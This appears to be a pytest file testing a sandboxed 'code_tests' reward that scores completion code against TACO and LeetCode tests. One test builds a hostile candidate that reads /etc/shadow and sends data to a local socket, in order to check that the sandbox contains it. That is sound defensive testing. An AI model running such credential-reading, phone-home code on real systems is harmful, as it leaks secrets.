"""The `code_tests` reward: programs from completions run against TACO- and LeetCode-format tests in the sandbox."""

from __future__ import annotations

import os
import socket
import threading
import time

import pytest

from scirl.data.sample import Sample
from scirl.errors import ScirlError
from scirl.rewards import RewardPool, get_reward
from scirl.rewards.code_tests import extract_code, outputs_match

code_tests = get_reward("code_tests")


def _sandbox_ok() -> bool:
    try:
        from scirl.rewards.code_tests import sandbox_pool

        sandbox_pool()
        return True
    except ScirlError:
        return False


needs_sandbox = pytest.mark.skipif(not _sandbox_ok(), reason="no safe sandbox tier on this machine")


def block(code: str, lang: str = "python") -> str:
    return f"Here is my solution.\n```{lang}\n{code}\n```\nDone."


# a TACO stdin/stdout row: sum of two integers, outputs with stray whitespace as TACO has them
TACO_STDIN = {"inputs": ["1 2\n", "3 4\n", "10 -2\n", "100 200\n"], "outputs": ["3\n", "7", " 8 \n\n", "300\n"]}
ADD_OK = "a, b = map(int, input().split())\nprint(a + b)"
ADD_HALF = "a, b = map(int, input().split())\nprint(a + b if a < 5 else 0)"  # passes tests 0 and 1
ADD_WRONG = "a, b = map(int, input().split())\nprint(a - b)"
SYNTAX = "def f(:\n    return 1"
LOOP_ON_BIG = "a, b = map(int, input().split())\nwhile a > 50:\n    pass\nprint(a + b)"  # hangs on test 3 only

# a TACO fn_name row (outputs wrapped in one-element lists, as TACO stores many) and a LeetCodeDataset row
TACO_CALL = {"fn_name": "max_pair", "inputs": [[[1, 5, 3]], [[-2, -7]], [[4, 4, 1]]], "outputs": [[5], [-2], 4]}
LEET_TESTS = [{"input": "nums = [2,7,11,15], target = 9", "output": "[0, 1]"},
              {"input": "nums = [3,2,4], target = 6", "output": "[1, 2]"},
              {"input": "nums = [3,3], target = 6", "output": "[0, 1]"}]
TWO_SUM = """from typing import List
class Solution:
    def twoSum(self, nums: List[int], target: int) -> List[int]:
        seen = {}
        for i, x in enumerate(nums):
            if target - x in seen:
                return [seen[target - x], i]
            seen[x] = i"""
TWO_SUM_FIRST_ONLY = """class Solution:
    def twoSum(self, nums, target):
        print("debug output is ignored")
        return (0, 1)"""  # a tuple: compared as a list; right for tests 0 and 2


def taco_row(io: dict) -> Sample:
    return Sample(prompt_id="taco/7", messages=[], answer=None, metadata={"input_output": io})


def leet_row() -> Sample:
    return Sample(prompt_id="leet/1", messages=[], answer=None,
                  reward_info={"tests": LEET_TESTS, "entry_point": "Solution().twoSum"})


def test_extract_code_takes_last_python_block_else_last_block():
    text = "```python\nprint(1)\n```\n```bash\nls\n```\n```py\nprint(2)\n```\n```text\nout\n```"
    assert extract_code(text) == "print(2)\n"
    assert extract_code("```\nprint(3)\n```\n```c\nint x;\n```") == "int x;\n"
    assert extract_code("no fence here") is None


def test_outputs_match_normalises_whitespace_and_numbers():
    assert outputs_match("1 2\r\n3\n\n", "  1   2\n3")
    assert outputs_match("0.3333333\n", "0.33333333")
    assert not outputs_match("1 2 3", "1 2\n3")  # line structure matters
    assert not outputs_match("3\n", "4\n")
    assert not outputs_match("", "0")


@needs_sandbox
@pytest.mark.parametrize("code, frac", [(ADD_OK, 1.0), (ADD_HALF, 0.5), (ADD_WRONG, 0.0)])
def test_stdin_style_fraction_and_all(code, frac):
    row = taco_row(TACO_STDIN)
    res = code_tests(row, block(code), {"mode": "fraction"})
    assert res.score == pytest.approx(frac)
    assert res.components == {"tests_passed_frac": pytest.approx(frac), "compile_error": 0.0, "timeout": 0.0,
                              "no_code": 0.0}
    res_all = code_tests(row, block(code), {})  # default mode: all-pass, stops at the first failure
    assert res_all.score == (1.0 if frac == 1.0 else 0.0)
    assert res_all.components["tests_passed_frac"] == pytest.approx(frac if frac in (0.0, 1.0) else 0.5)


@needs_sandbox
def test_syntax_error_and_no_code_are_labelled():
    res = code_tests(taco_row(TACO_STDIN), block(SYNTAX), {"mode": "fraction"})
    assert (res.score, res.components["compile_error"], res.components["no_code"]) == (0.0, 1.0, 0.0)
    res = code_tests(taco_row(TACO_CALL), block(SYNTAX), {"mode": "fraction"})
    assert (res.score, res.components["compile_error"]) == (0.0, 1.0)
    res = code_tests(taco_row(TACO_STDIN), "The answer is to add them.", {"mode": "fraction"})
    assert (res.score, res.components["no_code"], res.components["compile_error"]) == (0.0, 1.0, 0.0)


@needs_sandbox
def test_infinite_loop_times_out_that_test_only():
    t0 = time.monotonic()
    res = code_tests(taco_row(TACO_STDIN), block(LOOP_ON_BIG), {"mode": "fraction", "timeout": 1.0})
    assert time.monotonic() - t0 < 8.0
    assert res.score == pytest.approx(0.75)
    assert res.components["timeout"] == 1.0
    loop_call = "def max_pair(xs):\n    while xs[0] == 4:\n        pass\n    return max(xs)"
    res = code_tests(taco_row(TACO_CALL), block(loop_call), {"mode": "fraction", "timeout": 1.0})
    assert res.score == pytest.approx(2 / 3)
    assert res.components["timeout"] == 1.0


@needs_sandbox
def test_function_call_styles_taco_and_leetcode():
    top = "def max_pair(xs):\n    return max(xs)"
    method = "class Solution:\n    def max_pair(self, xs):\n        return sorted(xs)[-1]"
    first = "def max_pair(xs):\n    return xs[0]"  # right for [-2, -7] and [4, 4, 1] only
    assert code_tests(taco_row(TACO_CALL), block(top), {}).score == 1.0
    assert code_tests(taco_row(TACO_CALL), block(method), {}).score == 1.0
    res = code_tests(taco_row(TACO_CALL), block(first), {"mode": "fraction"})
    assert res.score == pytest.approx(2 / 3)
    res = code_tests(taco_row(TACO_CALL), block(first), {})  # all: stops at test 0
    assert (res.score, res.components["tests_passed_frac"]) == (0.0, 0.0)
    assert code_tests(leet_row(), block(TWO_SUM), {}).score == 1.0
    res = code_tests(leet_row(), block(TWO_SUM_FIRST_ONLY), {"mode": "fraction"})
    assert res.score == pytest.approx(2 / 3)
    assert code_tests(leet_row(), block(TWO_SUM_FIRST_ONLY), {}).score == 0.0
    routed = leet_row()
    routed.reward = "code_tests"  # a mixture: the `dataset` reward routes the row to its own reward and info
    assert get_reward("dataset")(routed, block(TWO_SUM_FIRST_ONLY), {"mode": "fraction"}).score == pytest.approx(2 / 3)


def test_row_without_tests_is_one_clear_error():
    bare = Sample(prompt_id="taco/99", messages=[], answer=None)
    with pytest.raises(ScirlError, match=r"row 'taco/99' has no test cases"):
        code_tests(bare, block(ADD_OK), {})
    bad = Sample(prompt_id="taco/98", messages=[], answer="not json")
    with pytest.raises(ScirlError, match=r"row 'taco/98': answer is not JSON"):
        code_tests(bad, block(ADD_OK), {})
    uneven = taco_row({"inputs": ["1"], "outputs": []})
    with pytest.raises(ScirlError, match=r"metadata\['input_output'\] needs equally long"):
        code_tests(uneven, block(ADD_OK), {})
    with pytest.raises(ScirlError, match=r"info\['mode'\]"):
        code_tests(taco_row(TACO_STDIN), block(ADD_OK), {"mode": "best"})


@needs_sandbox
def test_malicious_candidate_scores_zero_and_does_nothing():
    """It prints /etc/shadow's first line (the expected output) and phones home: contained, it scores 0 and the
    server the test starts never hears from it."""
    with open("/etc/shadow", encoding="utf-8") as f:
        secret = f.readline().strip()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    heard = []

    def listen():
        end = time.monotonic() + 6
        while time.monotonic() < end:
            try:
                conn, _ = server.accept()
                heard.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    t = threading.Thread(target=listen, daemon=True)
    t.start()
    evil = (f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            "    s.sendall(b'pwned')\nexcept OSError:\n    pass\n"
            "print(open('/etc/shadow').readline().strip())")
    row = taco_row({"inputs": [""], "outputs": [secret]})
    res = code_tests(row, block(evil), {"mode": "fraction"})
    t.join()
    server.close()
    assert res.score == 0.0 and res.components["tests_passed_frac"] == 0.0
    assert heard == []
    assert outputs_match(secret, secret)  # the row is passable: only the sandbox stops it


@needs_sandbox
def test_through_the_reward_pool_workers():
    row = taco_row(TACO_STDIN)
    items = [(row, block(c), {"mode": "fraction", "timeout": 2.0})
             for c in (ADD_OK, ADD_HALF, ADD_WRONG, SYNTAX, ADD_OK, ADD_HALF)]
    items.append((row, "no code", {"mode": "fraction"}))
    items.append((leet_row(), block(TWO_SUM), {}))
    with RewardPool("code_tests", workers=2, timeout=30.0) as pool:
        results, stats = pool.score(items)
        pids = pool.worker_pids
    assert stats == {"timeouts": 0, "errors": 0}
    assert [r.score for r in results] == pytest.approx([1.0, 0.5, 0.0, 0.0, 1.0, 0.5, 0.0, 1.0])
    assert results[3].components["compile_error"] == 1.0 and results[6].components["no_code"] == 1.0
    assert len(set(pids)) == 2 and os.getpid() not in pids


def _report_slot(q, go):
    from scirl.rewards.code_tests import sandbox_pool

    box = sandbox_pool().boxes[0]
    q.put((box.worker, box.tier.user))
    go.wait(10)  # hold the slot until both processes have reported


@needs_sandbox
def test_two_reward_processes_get_their_own_sandbox_uid():
    import multiprocessing as mp

    from scirl.config import SandboxConfig

    ctx = mp.get_context("fork")
    q, go = ctx.Queue(), ctx.Event()
    procs = [ctx.Process(target=_report_slot, args=(q, go)) for _ in range(2)]
    for p in procs:
        p.start()
    got = [q.get(timeout=30) for _ in procs]
    go.set()
    for p in procs:
        p.join(10)
    (w1, u1), (w2, u2) = got
    assert w1 != w2 and min(w1, w2) >= SandboxConfig().workers  # above the code_interpreter pool's 0 .. workers-1
    if u1.startswith("scirl-sbx") and u2.startswith("scirl-sbx"):  # dedicated users exist (root, .ci/run)
        assert u1 != u2
